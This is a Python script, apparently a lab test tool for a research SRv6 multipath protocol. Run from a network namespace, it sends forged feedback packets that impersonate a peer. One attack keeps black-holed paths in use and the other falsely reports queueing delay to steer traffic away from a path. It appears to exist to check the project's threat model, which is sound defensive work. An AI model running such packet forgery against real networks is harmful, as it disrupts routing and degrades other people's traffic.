"""A third host forging a peer's feedback (the attacks of
docs/design/threat-model.md), for SECONDS at PPS packets per second.

    ip netns exec C python forge_feedback.py IFACE NEXTHOP_MAC PEER_SID VICTIM_SID \
        SECONDS ATTACK [--pps N] [--path K] [--key-id N]

The forged packets claim to come from PEER_SID (its feedback-only
packets: outer IPv6 + SRH with the MRC TLV, inner IPv6 with no next
header) and go to VICTIM_SID.  Our hosts share CLOCK_MONOTONIC with the
victim, as an eavesdropper on the fabric learns its clock from any TLV.
ATTACK:
  keep      acknowledge every path (0-63) now: a black-holed path stays in
            the spray;
  keep      (above) also runs ahead of the peer's own acknowledgements,
            so healthy paths can look overdue and go down;
  delay     report a 60 ms queue on path K (and acknowledge path 0 now):
            the adaptive policy moves traffic off K.
--key-id: claim this key (with a random MAC), as one who knows the id but
not the key.  Prints the number of packets sent.
"""
import argparse
import os
import socket
import struct
import time

from scapy.layers.inet6 import IPv6, IPv6ExtHdrSegmentRouting
from scapy.layers.l2 import Ether

from mrc_ebpf.datapath import wire
from mrc_ebpf.datapath.source import C

p = argparse.ArgumentParser()
p.add_argument("iface")
p.add_argument("mac")
p.add_argument("peer_sid")
p.add_argument("victim_sid")
p.add_argument("seconds", type=float)
p.add_argument("attack", choices=["keep", "delay"])
p.add_argument("--pps", type=float, default=2000)
p.add_argument("--path", type=int, default=1)
p.add_argument("--key-id", type=int, default=0)
a = p.parse_args()

flags = C["MRC_F_FEEDBACK"] | C["MRC_F_CONTROL"]
tlv = wire.MrcTLV(flags=flags, path_id=0, key_id=a.key_id, epoch=1,
                  fb_path_id=a.path if a.attack == "delay" else 0,
                  fb_qdelay_us=60000 if a.attack == "delay" else 0,
                  fb_heard=(1 << 64) - 1 if a.attack == "keep" else 1)
frame = bytes(Ether(dst=a.mac) / IPv6(src=a.peer_sid, dst=a.victim_sid, hlim=64) /
              IPv6ExtHdrSegmentRouting(addresses=[a.victim_sid], segleft=0, lastentry=0, tlv_objects=[tlv]) /
              IPv6(src="fd00::1", dst="fd00::2", nh=59))
off = frame.index(bytes(tlv))
field = {name: off + sum(f.sz for f in wire.MrcTLV.fields_desc[:i])
         for i, f in enumerate(wire.MrcTLV.fields_desc) for name in [f.name]}
buf = bytearray(frame)

with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
    s.bind((a.iface, 0))
    start = time.monotonic()
    sent = 0
    while time.monotonic() - start < a.seconds:
        now = time.clock_gettime_ns(time.CLOCK_MONOTONIC)
        struct.pack_into(">I", buf, field["path_seq"], sent)
        struct.pack_into(">I", buf, field["peer_seq"], sent)
        struct.pack_into(">Q", buf, field["tx_ns"], now)
        struct.pack_into(">I", buf, field["fb_since_ns32"], now & 0xFFFFFFFF)
        if a.attack == "keep":
            struct.pack_into(">I", buf, field["fb_path_tx32"], now & 0xFFFFFFFF)
        buf[field["mac"]:field["mac"] + 8] = os.urandom(8) if a.key_id else bytes(8)
        try:
            s.send(buf)
        except OSError:
            pass
        sent += 1
        due = start + sent / a.pps
        while time.monotonic() < due:
            pass
print(sent)
